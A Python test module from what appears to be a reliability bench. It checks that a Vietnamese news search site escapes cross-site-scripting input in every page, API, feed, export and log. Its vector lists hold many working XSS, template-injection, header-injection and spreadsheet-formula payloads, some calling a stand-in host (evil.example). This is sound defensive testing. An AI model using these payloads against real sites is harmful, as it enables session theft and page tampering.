"""Script in articles and queries: none of it becomes markup, anywhere.

An index is made whose articles carry one vector each in every field that reaches a page: title, lead, body, author, source,
captions, labels of districts and campaigns, addresses. Every vector is also sent as a query. What comes back is read by
parsers: a page may hold no element, attribute, script or address that pages of harmless articles do not hold; JSON must
be JSON without a raw `<` in its highlights but `<mark>`; XML must be well-formed; the log must be one JSON object a line.
"""

from __future__ import annotations

import io
import itertools
import json
import logging
import random
import re
import tempfile
import warnings
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, urlsplit
from xml.etree import ElementTree

from flask.testing import FlaskClient

from bench.reliability.outcome import Outcome
from indexer import engines
from indexer.article import Article, FacetValue
from indexer.facets import REGISTRY
from webapp import create_app
from webapp.security import POLICY

ASKED = "500 XSS vectors × (highlights, titles, links, facets, suggestions, feeds, logs): 0 unescaped"
HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "oninput",
]
TAGS = [
    "img",
    "svg",
    "video",
    "body",
    "iframe",
    "details",
    "input",
    "a",
    "div",
    "marquee",
    "math",
    "object",
    "embed",
    "style",
    "link",
    "base",
    "form",
    "button",
    "xss",
]
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "javascript://example.vn/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "//evil.example/x", "\\\\evil.example\\x", "https:javascript:alert(1)", "http://", "file:///etc/passwd", "blob:x", "jav&#x09;ascript:alert(1)",
)  # fmt: skip
WHOLE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "</title><script>alert(1)</script>", "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<mark>x</mark>", "<mark onmouseover=alert(1)>x</mark>", "</mark><script>alert(1)</script><mark>",
    "<mark/onclick=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "&#x3c;img src=x onerror=alert(1)&#x3e;", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e",
    "＜script＞alert(1)＜/script＞", "‹script›", "<\u0000script>alert(1)</script>", "<script\u00a0>alert(1)</script>", "<scr\u200bipt>alert(1)</script>", "<s\u0301cript>alert(1)", "+ADw-script+AD4-",
    "{{7*7}}{{config}}", "{% for x in y %}", "${alert(1)}", "<%= 1 %>", "#{1}", "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "` onclick=`", "javascript:alert(1)//",
    "<!--<img src=--><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>", "<!DOCTYPE x [<!ENTITY y 'z'>]>&y;", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><style><img src=x onerror=alert(1)></style>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "<form action=javascript:alert(1)><button>x</button></form>",
    "=HYPERLINK(\"//evil.example\")", "@SUM(1)", "\r\nX-Injected: 1", "\n\n<script>alert(1)</script>", "\x1b]0;x\x07", '{"level": "error"}\n{"status": 200}', "\u2028alert(1)\u2029", "\u202e<script>",
)  # fmt: skip


def vectors(count: int, seed: int) -> list[str]:
    """`count` different vectors: whole ones, addresses, and tags × handlers × ways to break out."""
    rng = random.Random(seed)
    breaks = ("", '"', "'", '">', "'>", "</p>", "</title>", "-->", "</mark>", "\\", '\\"', "`")
    made = [
        f"{out}<{tag}{glue}{handler}=alert({n}){end}"
        for n, (out, tag, handler) in enumerate(itertools.product(breaks, TAGS, HANDLERS))
        for glue, end in [
            (rng.choice((" ", "/", "\t", "\n", " src=x ", ' x="">')), rng.choice((">", " >", "//", "")))
        ]
    ]
    rng.shuffle(made)
    links = [f'<a href="{scheme}">x</a>' for scheme in SCHEMES]
    every = list(dict.fromkeys([*WHOLE, *SCHEMES, *links, *made]))
    if len(every) < count:
        raise ValueError(f"there are {len(every)} vectors, not {count}")
    return every[:count]


def poisoned(vector: str, number: int) -> Article:
    """An Article with `vector` in every field. Vectors that are addresses are its addresses."""
    address = vector if number % 2 else SCHEMES[number % len(SCHEMES)]
    return Article(
        id=f"v{number}" if number % 3 else f"v{number}{vector[:80]}",
        kind="article",
        title=f"Công đoàn {vector} đoàn viên",
        kicker=vector,
        lead=f"Liên đoàn Lao động {vector} hội nghị",
        body=f"Công đoàn cơ sở {vector} người lao động.\n\n{vector}",
        author=vector,
        source=vector,
        url=address,
        urls=(address, vector),
        page=vector,
        pages=(vector, "a"),
        published=f"20{10 + number % 15}-05-01T08:00:00+07:00",
        year=2010 + number % 15,
        year_basis="published",
        districts=(FacetValue(f"d{number % 40}{vector[:30]}", f"Quận {vector}"),),
        campaigns=(FacetValue(f"c{number % 40}{vector[:30]}", f"Phong trào {vector}"),),
        wards=(FacetValue(f"w{number % 40}{vector[:30]}", f"Phường {vector}"),),
        facets={"nganh": (FacetValue(f"n{number % 40}{vector[:30]}", f"Ngành {vector}"),)},
        captions=(f"Ảnh: {vector}",),
        related=(vector,),
    )


def harmless(number: int) -> Article:
    """The same without the vector: what pages hold of themselves is learnt from these."""
    made = poisoned("vô hại", number)
    return Article.from_dict(made.to_dict() | {"id": f"h{number}", "url": "https://example.vn/a"})


class _Shape(HTMLParser):
    """The elements and attributes of a page, and its addresses."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: set[str] = set()
        self.addresses: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.add(f"<{tag}>")
        for name, value in attributes:
            self.found.add(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "srcset", "xlink:href", "data", "poster"):
                self.addresses.append(value or "")

    def handle_comment(self, data: str) -> None:
        self.found.add("<!-- -->")

    def handle_decl(self, decl: str) -> None:
        self.found.add(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.found.add("<![…]>")

    def handle_pi(self, data: str) -> None:
        self.found.add("<?…>")


def _bad_address(address: str) -> bool:
    """Whether an address leads anywhere but to a page over http(s) or to this site."""
    squeezed = re.sub(r"[\x00-\x20]", "", address)
    scheme = urlsplit(squeezed).scheme.lower()
    return scheme not in ("", "http", "https") or squeezed.startswith(("//", "\\"))


class Scene:
    """A site over an index of given articles, asked through Flask's test client."""

    def __init__(self, folder: Path, articles: list[Article]) -> None:
        self.folder = folder
        with engines.open_writer(folder) as writer:
            writer.commit(add=[writer.build(articles)], delete=[], state=b"")
        self.log = io.StringIO()
        logger = logging.getLogger("tin_cong_doan.access")
        logger.handlers, logger.propagate = [logging.StreamHandler(self.log)], False
        logger.setLevel(logging.INFO)
        self.app = create_app({"INDEX": str(folder), "ENGINE": "whoosh", "ACCESS_LOG": True, "RATE_LIMIT": 0})
        self.client: FlaskClient = self.app.test_client()


def addresses(vector: str, article: Article) -> Iterator[tuple[str, str]]:
    """(place, address) of everything that shows `vector` or `article`."""
    q, article_id = quote(vector, safe=""), quote(article.id, safe="")
    district, campaign = (quote(v[0].value, safe="") for v in (article.districts, article.campaigns))
    found = quote(f"đoàn viên district:{article.districts[0].value}"[:200], safe="")
    yield "titles, facets, links", f"/search?q={q}"
    yield "titles, facets, links", f"/search?district={district}&q=c%C3%B4ng+%C4%91o%C3%A0n"
    yield "titles, facets, links", f"/search?q={found}&exact={q}&lang=en"
    yield "titles, facets, links", f"/articles/{article_id}?q={q}"
    yield "titles, facets, links", f"/campaigns/{campaign}"
    yield "titles, facets, links", f"/districts/{district}"
    for spec in REGISTRY:
        for value in spec.values_of(article) if spec.name in ("ward", "source", "author") else ():
            yield "titles, facets, links", f"/{spec.page}/{quote(value.value, safe='')}"
    yield "errors", f"/search?from={q}&sort={q}&page={q}"
    yield "errors", f"/{q}"
    yield "highlights", f"/api/search?q={q}"
    yield "highlights", f"/api/search?campaign={campaign}&q=cong+doan"
    yield "api", f"/api/articles/{article_id}"
    yield "api", f"/api/search?unknown{q}={q}"
    yield "suggestions", f"/api/suggest?q={q}"
    yield "suggestions", f"/opensearch/suggest?q={q}"
    yield "feeds", f"/search.atom?q={q}"
    yield "feeds", f"/search.atom?campaign={campaign}"
    yield "exports", f"/search.csv?campaign={campaign}"
    yield "exports", f"/search.jsonl?campaign={campaign}"


ONCE = (
    ("titles, facets, links", "/"), ("titles, facets, links", "/districts"), ("titles, facets, links", "/campaigns"), ("titles, facets, links", "/coverage"), ("feeds", "/sitemap.xml"),
    ("feeds", "/sitemap-pages.xml"), ("feeds", "/sitemap-1.xml"), ("feeds", "/opensearch.xml"), ("api", "/api/facets"), ("feeds", "/search.atom"), ("titles, facets, links", "/search"),
)  # fmt: skip


def run(count: int = 500, seed: int = 1) -> Outcome:
    """Put `count` vectors into every place."""
    outcome = Outcome("script", ASKED, seed)
    every = vectors(count, seed)
    with tempfile.TemporaryDirectory(prefix="reliability-") as place, warnings.catch_warnings():
        plain = Scene(Path(place) / "plain", [harmless(n) for n in range(60)])
        allowed: set[str] = set()
        for number in range(12):
            queries = ("công đoàn", "công đoàn xyzzy", "xyzzy", "cogn doan", "lien doan lao dogn")
            pages = (addresses(words, harmless(number)) for words in queries)
            for _, address in itertools.chain(*pages, ONCE):
                reply = plain.client.get(address)
                if reply.mimetype == "text/html":
                    allowed |= _Shape(reply.text).found
        for hit in plain.client.get("/api/search?q=đoàn").get_json()[
            "results"
        ]:  # pages that link their neighbours
            allowed |= _Shape(plain.client.get(f"{hit['link']}?q=đoàn").text).found
        articles = [poisoned(vector, number) for number, vector in enumerate(every)]
        scene = Scene(Path(place) / "poisoned", articles)
        outcome.counts |= {"vectors": len(every), "answers read": 0, "unescaped": 0}
        for vector, article in zip(every, articles, strict=True):
            for where, address in addresses(vector, article):
                _examine(outcome, scene, where, address, allowed)
        for where, address in ONCE:
            _examine(outcome, scene, where, address, allowed)
        lines = scene.log.getvalue().splitlines()
        outcome.counts["logs"] = len(lines)
        for line in lines:
            sound = line.isascii() and line.isprintable() and isinstance(json.loads(line), dict)
            outcome.expect(sound, f"log: {line[:200]!r}")
        outcome.expect(
            len(lines) == outcome.counts["answers read"], "the log has more or fewer lines than requests"
        )
        logging.getLogger("tin_cong_doan.access").handlers = []
    outcome.counts["unescaped"] = len(outcome.problems)
    return outcome


def _examine(outcome: Outcome, scene: Scene, where: str, address: str, allowed: set[str]) -> None:
    reply = scene.client.get(address)
    outcome.add("answers read")
    outcome.add(where)
    outcome.expect(reply.status_code < 500, f"{address}: {reply.status_code}")
    policy = reply.headers.get("Content-Security-Policy")
    outcome.expect(
        policy == POLICY and "unsafe" not in POLICY, f"{address}: Content-Security-Policy {policy}"
    )
    outcome.expect(reply.headers.get("X-Content-Type-Options") == "nosniff", f"{address}: may be sniffed")
    for name, value in reply.headers.items():
        outcome.expect(name != "X-Injected" and value.isprintable(), f"{address}: header {name}: {value!r}")
    kind, text = reply.mimetype or "", reply.get_data().decode("utf-8")
    try:
        problems = list(_unescaped(kind, text, allowed))
    except (ValueError, ElementTree.ParseError) as error:
        problems = [f"not what it says to be ({kind}): {error}: {text[:300]!r}"]
    outcome.problems += [f"{where}, {address}: {problem}" for problem in problems]


def _unescaped(kind: str, text: str, allowed: set[str]) -> Iterator[str]:
    """What is wrong with one answer."""
    if kind == "text/html":
        shape = _Shape(text)
        yield from (f"{found} on the page" for found in sorted(shape.found - allowed))
        yield from (f"address {address!r}" for address in shape.addresses if _bad_address(address))
    elif kind == "application/x-ndjson":
        for line in text.split("\n"):
            if line:
                json.loads(line)
    elif kind.endswith("json"):
        for fragment in _highlights(json.loads(text)):
            rest = re.sub(r"</?mark>", "", fragment)
            if "<" in rest or ">" in rest or re.search(r"&(?!amp;|lt;|gt;|quot;|#x27;|#39;)", rest):
                yield f"highlight {fragment!r}"
    elif kind.endswith("xml"):
        for element in ElementTree.fromstring(text).iter():
            tag = element.tag.rpartition("}")[2]
            if tag.lower() in ("script", "img", "svg", "iframe", "x"):
                yield f"<{tag}> in the feed"
            for name in ("href", "src", "template"):
                if _bad_address(element.get(name, "")):
                    yield f"address {element.attrib[name]!r}"
            if tag in ("content", "summary", "title") and element.get("type") == "html":
                yield from _unescaped("text/html", element.text or "", {"<mark>", "<p>"})
    elif kind == "text/csv":
        for line in text.lstrip("\ufeff").splitlines():
            if line[:1] in ("=", "@", "+", "-"):
                yield f"a cell that a sheet would run: {line[:60]!r}"
    else:
        yield f"an answer of type {kind}"


def _highlights(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        for name, inner in value.items():
            if name == "highlights" and isinstance(inner, dict):
                yield inner["title"]
                yield from inner["text"]
            else:
                yield from _highlights(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _highlights(inner)


def trials(share: float, seed: int) -> Iterator[Outcome]:
    """By parsers and, where there is one, in a browser."""
    from bench.reliability.browser import run as in_browser

    yield run(int(500 * share), seed)
    yield in_browser(max(4, int(60 * share)), seed)
